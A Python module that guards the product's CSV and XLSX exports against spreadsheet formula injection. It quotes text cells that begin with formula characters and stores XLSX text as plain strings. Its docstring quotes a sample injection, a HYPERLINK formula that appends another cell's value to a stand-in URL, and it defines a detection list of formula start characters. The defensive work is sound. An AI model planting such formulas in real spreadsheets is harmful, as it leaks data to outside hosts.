"""Cells for the CSV and XLSX files the product writes, made inert: no spreadsheet ever runs a
formula that a person or an import file typed (a village called ``=HYPERLINK("http://x"&B2)``).

CSV: the OWASP CSV-injection rule: a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return gets a leading ``'`` (spreadsheets show it as text and hide the quote).
XLSX: every text cell is written as a string (openpyxl would store a text beginning with ``=``
as a formula and ``#N/A`` as an error) with Excel's quote prefix, so editing the cell keeps it
text. Numbers and dates are left as they are: they cannot carry a formula.

Every exporter uses these functions (cases, the /baocao workbook, later ones).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

#: What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP), plus the
#: full-width forms some input methods type, which LibreOffice also accepts.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def csv_cell(value: object) -> object:
    """The value to give ``csv.writer``: text that a spreadsheet would run is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text (RFC 4180: CRLF line ends, so a CR or LF inside a cell gets quoted;
    with "\\n" line ends the csv module leaves a lone CR unquoted and the row splits)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(csv_row(row))
    return out.getvalue()


def append_row(sheet: Worksheet, values: Sequence[object]) -> None:
    """``sheet.append(values)`` with every text cell stored as plain text, never a formula."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cells: list[object] = []
    for value in values:
        if isinstance(value, str):
            # Control characters cannot be written to an XLSX file at all (openpyxl raises):
            # the bot drops them from what people type, an older row or an import may not have.
            text = ILLEGAL_CHARACTERS_RE.sub("", value)
            cell = Cell(sheet, value=text)
            cell.data_type = "s"
            if text.startswith(FORMULA_STARTS):
                cell.quotePrefix = True
            cells.append(cell)
        else:
            cells.append(value)
    sheet.append(cells)
